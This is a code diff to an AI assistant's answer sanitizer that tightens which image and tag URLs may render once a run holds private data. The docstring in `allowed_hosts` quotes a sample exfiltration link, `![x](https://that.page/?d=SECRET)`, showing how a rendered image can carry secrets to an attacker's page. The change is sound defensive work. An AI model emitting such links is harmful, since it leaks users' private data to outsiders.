@@ -82,7 +82,7 @@ def neutralize(text: str, allowed: Allowed, *, images_only: bool = False) -> str
         if lowered.startswith("data:"):
             return False  # inline data: nothing is fetched
         host = _host(url)
-        return not host or not allowed(host)
+        return not host or not allowed(host) or not _url_ok(allowed, url)
 
     def image(match: re.Match[str]) -> str:
         alt, url = match.group(1), match.group(2)
@@ -100,8 +100,9 @@ def neutralize(text: str, allowed: Allowed, *, images_only: bool = False) -> str
     def tag(match: re.Match[str]) -> str:
         if match.group(1).lower() == "a":
             return match.group(0)
-        hosts = [_host(u) for u in _TAG_URL.findall(match.group(0))]
-        bad = [h for h in hosts if not h or not allowed(h)]
+        urls = _TAG_URL.findall(match.group(0))
+        bad = [_host(u) for u in urls
+               if not _host(u) or not allowed(_host(u)) or not _url_ok(allowed, u)]
         if not bad:
             return match.group(0)
         return f"[{match.group(1).lower()} removed: it pointed to {defang(bad[0] or 'an unknown host')}]"
@@ -137,9 +138,25 @@ def neutralize(text: str, allowed: Allowed, *, images_only: bool = False) -> str
     return "".join(out)
 
 
-def allowed_hosts(named: Iterable[str], rule: Callable[[str], bool] | None = None) -> Allowed:
+def _url_ok(allowed: Allowed, url: str) -> bool:
+    check = getattr(allowed, "url_ok", None)
+    if check is None:
+        return True
+    url = url.strip().strip("<>")
+    if url.lower().startswith("www."):
+        url = "http://" + url
+    elif url.startswith("//"):
+        url = "http:" + url
+    return bool(check(url))
+
+
+def allowed_hosts(named: Iterable[str], rule: Callable[[str], bool] | None = None,
+                  url_ok: Callable[[str], bool] | None = None) -> Allowed:
     """An `allowed(host)` from host names the person wrote (ports ignored: rendering an image
-    from a host the person named is no leak to a stranger) and an optional rule check."""
+    from a host the person named is no leak to a stranger) and an optional rule check.
+    `url_ok(url)`, when given, must also accept a URL on a named host that no rule allows:
+    while the run holds private data, a URL a client fetches is egress like any other (the
+    person named the attacker's page: `![x](https://that.page/?d=SECRET)` reaches it)."""
     hosts = {n.rpartition(":")[0] if n.count(":") == 1 else n for n in named}
     hosts |= {h.removeprefix("www.") for h in hosts}
 
@@ -147,6 +164,11 @@ def allowed_hosts(named: Iterable[str], rule: Callable[[str], bool] | None = Non
         host = host.lower()
         return host in hosts or host.removeprefix("www.") in hosts or bool(rule and rule(host))
 
+    if url_ok is not None:
+        def ok(url: str) -> bool:
+            return bool(rule and rule(_host(url))) or url_ok(url)
+
+        check.url_ok = ok  # type: ignore[attr-defined]
     return check
 
 
@@ -225,7 +247,14 @@ class AnswerGuard:
         self._stream: MarkdownStream | None = None
 
     def allowed(self) -> Allowed:
-        return allowed_hosts(self.trust.evidence.person_hosts, self.trust.rules.allows_host)
+        trust = self.trust
+
+        def url_ok(url: str) -> bool:  # the guard's rule (b), once the run holds private data
+            from jarvis.trust.evidence import budget, url_covered
+
+            return not trust.private_by or url_covered(url, trust.evidence, budget()) is not None
+
+        return allowed_hosts(trust.evidence.person_hosts, trust.rules.allows_host, url_ok)
 
     def token(self, piece: str) -> None:
         if self.on_token is None:
